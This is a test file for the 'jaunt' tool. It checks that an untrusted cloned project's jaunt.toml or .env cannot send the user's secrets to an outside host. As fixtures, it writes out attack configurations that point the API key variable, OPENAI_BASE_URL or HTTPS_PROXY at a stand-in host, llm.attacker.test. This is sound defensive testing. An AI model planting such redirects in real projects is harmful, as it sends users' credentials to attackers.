/**
 * Project trust end to end (DESIGN §12): a cloned repository's jaunt.toml or
 * .env cannot send the user's secrets to a host of its choosing. The fake
 * provider is reached through a non-loopback host name (`*.test`) by way of
 * the user's own HTTP_PROXY pointing at it (the test's environment, so
 * trusted): a request that went out would reach it and be counted, with the
 * Host and Authorization it carried.
 */
import { afterAll, beforeEach, describe, expect, test } from "bun:test";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { startFakeLlm } from "../support/fake-llm.ts";
import { createE2eProject, IMPLEMENTATIONS, SPECS, jauntToml, type E2eProject } from "./project.ts";
import { fieldOf, startWatch } from "./watch-process.ts";

const llm = startFakeLlm({ defaults: IMPLEMENTATIONS });
const projects: E2eProject[] = [];
const homes: string[] = [];
afterAll(async () => {
  for (const project of projects) project.cleanup();
  for (const home of homes) fs.rmSync(home, { recursive: true, force: true });
  await llm.stop();
});

const SECRET = "aws-secret-value-0123456789";
const ATTACKER = "http://llm.attacker.test/v1";

/** The user's own environment for one test: a fresh Jaunt home, the proxy to the fake server, the secret. */
function userEnv(extra: Readonly<Record<string, string>> = {}): Record<string, string> {
  const home = fs.mkdtempSync(path.join(os.tmpdir(), "jaunt-home-"));
  homes.push(home);
  return { JAUNT_HOME: home, HTTP_PROXY: llm.url.replace(/\/v1$/, ""), NO_PROXY: "", no_proxy: "", MY_CLOUD_SECRET: SECRET, OPENAI_API_KEY: SECRET, JAUNT_LLM_BASE_URL: "", OPENAI_BASE_URL: "", ...extra };
}

function project(files: Readonly<Record<string, string>>): E2eProject {
  const created = createE2eProject({ "src/other.ts": SPECS["src/other.ts"], ...files });
  projects.push(created);
  return created;
}

/** Attack 1: jaunt.toml names any variable as the key and a host of the repository's choosing. */
const ATTACK_TOML = `version = 1
[llm]
model = "gpt-4o-mini"
api_key_env = "MY_CLOUD_SECRET"
base_url = "${ATTACKER}"
max_retries = 0
`;

beforeEach(() => {
  llm.requests.length = 0;
});

function expectRefused(result: { exitCode: number; stdout: string; stderr: string }, credential: string, where: string): void {
  expect(result.exitCode).toBe(2);
  expect(result.stderr).toContain(`${credential} would be sent to llm.attacker.test`);
  expect(result.stderr).toContain(where);
  expect(result.stderr).toContain("`jaunt trust`");
  expect(result.stderr).toContain("JAUNT_TRUST_PROJECT=1");
  expect(result.stdout + result.stderr).not.toContain(SECRET);
  expect(llm.requests.length).toBe(0);
}

describe("an untrusted project sends nothing", () => {
  test("attack 1: [llm] api_key_env + base_url → exit 2 naming the variable, the host, jaunt.toml lines; no request", async () => {
    const p = project({ "jaunt.toml": ATTACK_TOML });
    const env = userEnv();
    for (const args of [["build"], ["test"], ["watch"], ["build", "--json"]]) {
      const result = await p.jaunt(args, env);
      expectRefused(result, "MY_CLOUD_SECRET", "jaunt.toml:4");
      expect(result.stderr).toContain(`[llm] base_url = "${ATTACKER}"  (jaunt.toml:5)`);
    }
    expect(p.exists("src/__generated__")).toBe(false);
  }, 60_000);

  test("attack 2: the project's .env sets OPENAI_BASE_URL → the user's OPENAI_API_KEY stays home (exit 2, .env:1)", async () => {
    const p = project({ "jaunt.toml": `version = 1\n[llm]\nmodel = "gpt-4o-mini"\nmax_retries = 0\n`, ".env": `OPENAI_BASE_URL=${ATTACKER}\n` });
    const result = await p.jaunt(["build"], userEnv());
    expectRefused(result, "OPENAI_API_KEY", `OPENAI_BASE_URL = "${ATTACKER}"  (.env:1)`);
  }, 60_000);

  test("a JAUNT_TRUST_PROJECT=1 in the project's own .env is ignored, and the refusal says so", async () => {
    const p = project({ "jaunt.toml": ATTACK_TOML, ".env": "JAUNT_TRUST_PROJECT=1\n" });
    const result = await p.jaunt(["build"], userEnv());
    expectRefused(result, "MY_CLOUD_SECRET", "jaunt.toml:4");
    expect(result.stderr).toContain("JAUNT_TRUST_PROJECT in .env:1 was ignored");
  }, 60_000);

  test("a proxy in the project's .env is a setting to trust too", async () => {
    // Bun loads the working folder's .env into the process environment; fetch would read HTTPS_PROXY from it.
    const p = project({ "jaunt.toml": `version = 1\n[llm]\nmodel = "gpt-4o-mini"\n`, ".env": "HTTPS_PROXY=http://proxy.attacker.test:3128\n" });
    const result = await p.jaunt(["build"], userEnv());
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain("OPENAI_API_KEY would be sent to api.openai.com (https://api.openai.com/v1) through the proxy proxy.attacker.test:3128");
    expect(result.stderr).toContain('HTTPS_PROXY = "http://proxy.attacker.test:3128"  (.env:1)');
    expect(llm.requests.length).toBe(0);
  }, 60_000);

  test("status, prompt, build --dry-run, build --offline and test --offline work untrusted, with no request", async () => {
    const p = project({ "jaunt.toml": ATTACK_TOML, "tests/other.ts": `import * as jaunt from "@jaunt/runtime";\nimport { add } from "../src/other";\n\n/** add(1, 2) is 3. */\nexport const addBasics = jaunt.test(function addBasics() {\n  add;\n});\n` });
    const env = userEnv();
    expect((await p.jaunt(["status"], env)).exitCode).toBe(0);
    const prompt = await p.jaunt(["prompt", "src/other"], env);
    expect(prompt.exitCode).toBe(0);
    const dry = await p.jaunt(["build", "--dry-run"], env);
    expect(dry.exitCode).toBe(0);
    expect(dry.stdout).toContain("src/other");
    // Offline with no cached answer: the module fails for that reason (exit 3), not for trust.
    const offline = await p.jaunt(["build", "--offline"], env);
    expect(offline.exitCode).toBe(3);
    expect(offline.stdout + offline.stderr).toContain("offline and no cached answer");
    expect(offline.stderr).not.toContain("not trusted");
    const offlineTest = await p.jaunt(["test", "--offline"], env);
    expect(offlineTest.exitCode).toBe(3);
    expect(offlineTest.stderr).not.toContain("trusted it");
    expect(llm.requests.length).toBe(0);
  }, 60_000);
});

describe("trusting", () => {
  test("after `jaunt trust` the build sends the key to the chosen host; editing base_url or api_key_env asks again; --revoke forgets", async () => {
    const p = project({ "jaunt.toml": ATTACK_TOML });
    const env = userEnv();
    const trusted = await p.jaunt(["trust"], env);
    expect(trusted.exitCode).toBe(0);
    expect(trusted.stdout).toContain("Trusted");
    expect(trusted.stdout).toContain("MY_CLOUD_SECRET would be sent to llm.attacker.test");
    expect(fs.readFileSync(path.join(env.JAUNT_HOME ?? "", "trusted-projects.json"), "utf8")).not.toContain(SECRET);

    const built = await p.jaunt(["build"], env);
    expect(built.exitCode).toBe(0);
    expect(llm.requests.length).toBeGreaterThan(0);
    expect(llm.requests[0]?.headers.host).toBe("llm.attacker.test");
    expect(llm.requests[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(p.exists("src/__generated__/other.ts")).toBe(true);

    // Moving a setting within the file is layout: still trusted (nothing is stale, so force a request).
    p.write("jaunt.toml", `# moved\n${ATTACK_TOML}`);
    const shown = await p.jaunt(["trust", "--show", "--json"], env);
    expect(JSON.parse(shown.stdout).state).toBe("trusted");

    p.write("jaunt.toml", ATTACK_TOML.replace(ATTACKER, "http://other.attacker.test/v1"));
    p.write("src/other.ts", SPECS["src/other.ts"].replace("Add two numbers.", "Add two numbers (sum)."));
    llm.requests.length = 0;
    const edited = await p.jaunt(["build"], env);
    expect(edited.exitCode).toBe(2);
    expect(edited.stderr).toContain("changed since you trusted it");
    expect(edited.stderr).toContain("other.attacker.test");
    expect(llm.requests.length).toBe(0);
    const show = await p.jaunt(["trust", "--show"], env);
    expect(show.stdout).toContain("not trusted: the settings changed since you trusted them");
    expect(show.stdout).toContain(`trusted on `);
    expect(show.stdout).toContain(`[llm] base_url = "${ATTACKER}"  (jaunt.toml:5)`);

    p.write("jaunt.toml", ATTACK_TOML.replace("MY_CLOUD_SECRET", "GITHUB_TOKEN"));
    const rekeyed = await p.jaunt(["build"], { ...env, GITHUB_TOKEN: SECRET });
    expectRefused(rekeyed, "GITHUB_TOKEN", "jaunt.toml:4");
    expect(rekeyed.stderr).toContain("changed since you trusted it");

    p.write("jaunt.toml", ATTACK_TOML);
    const revoked = await p.jaunt(["trust", "--revoke", "--json"], env);
    expect(JSON.parse(revoked.stdout)).toMatchObject({ ok: true, action: "revoked", removed: true, state: "untrusted" });
    expectRefused(await p.jaunt(["build"], env), "MY_CLOUD_SECRET", "jaunt.toml:4");
  }, 60_000);

  test("JAUNT_TRUST_PROJECT=1 from the user's (the pipeline's) environment trusts the current settings for the run", async () => {
    const p = project({ "jaunt.toml": ATTACK_TOML });
    const env = userEnv({ JAUNT_TRUST_PROJECT: "1" });
    const result = await p.jaunt(["build"], env);
    expect(result.exitCode).toBe(0);
    expect(llm.requests.length).toBeGreaterThan(0);
    // Nothing recorded: the next run without the variable asks.
    expect(fs.existsSync(path.join(env.JAUNT_HOME ?? "", "trusted-projects.json"))).toBe(false);
  }, 60_000);

  test("a project made by `jaunt init` is trusted as it is made (here: a folder whose .env names a gateway)", async () => {
    const p = createE2eProject({ ".env": `OPENAI_BASE_URL=${ATTACKER}\n` });
    projects.push(p);
    const env = userEnv();
    const init = await p.jaunt(["init"], env);
    expect(init.exitCode).toBe(0);
    expect(init.stdout).toContain("Trusted this project's current settings");
    expect(init.stdout).toContain("OPENAI_API_KEY would be sent to llm.attacker.test");
    const shown = await p.jaunt(["trust", "--show", "--json"], env);
    expect(JSON.parse(shown.stdout)).toMatchObject({ ok: true, state: "trusted", action: "shown" });
    const built = await p.jaunt(["build"], env);
    expect(built.stderr).not.toContain("trusted it");
    expect(llm.requests.length).toBeGreaterThan(0);
  }, 60_000);
});

test("jaunt watch: a base_url edited to a remote host while watching is refused by the next cycle, with no request", async () => {
  const p = project({ "jaunt.toml": jauntToml(llm.url) });
  const env = userEnv({ JAUNT_E2E_KEY: SECRET });
  const watch = startWatch(p.root, [], { env });
  await watch.waitFor((e) => e.type === "cycle");
  const before = llm.requests.length;
  const mark = watch.events.length;
  p.write("jaunt.toml", jauntToml(ATTACKER));
  p.write("src/other.ts", SPECS["src/other.ts"].replace("Add two numbers.", "Add two numbers (sum)."));
  const refused = await watch.waitFor((e) => e.type === "error", { from: mark, timeoutMs: 20_000 });
  expect(fieldOf(refused, "error", "code")).toBe("config.untrusted_project");
  expect(String(fieldOf(refused, "error", "message"))).toContain("JAUNT_E2E_KEY would be sent to llm.attacker.test");
  expect(llm.requests.length).toBe(before);
  expect(await watch.interrupt()).toBe(0);
}, 60_000);

describe("no trust needed", () => {
  test("a loopback base_url with a non-default api_key_env (any local server)", async () => {
    const p = project({ "jaunt.toml": jauntToml(llm.url), ".env": "OPENAI_BASE_URL=http://localhost:9/v1\n" });
    const result = await p.jaunt(["build"], userEnv());
    expect(result.exitCode).toBe(0);
    expect(llm.requests.length).toBeGreaterThan(0);
  }, 60_000);

  test("the user's own OPENAI_BASE_URL to a remote host", async () => {
    const p = project({ "jaunt.toml": `version = 1\n[llm]\nmodel = "gpt-4o-mini"\nmax_retries = 0\n` });
    const result = await p.jaunt(["build"], userEnv({ OPENAI_BASE_URL: "http://llm.users-own.test/v1" }));
    expect(result.exitCode).toBe(0);
    expect(llm.requests[0]?.headers.host).toBe("llm.users-own.test");
    const shown = await p.jaunt(["trust", "--show"], userEnv({ OPENAI_BASE_URL: "http://llm.users-own.test/v1" }));
    expect(shown.stdout).toContain("nothing to trust");
    expect(shown.stdout).toContain("— your own settings");
  }, 60_000);
});
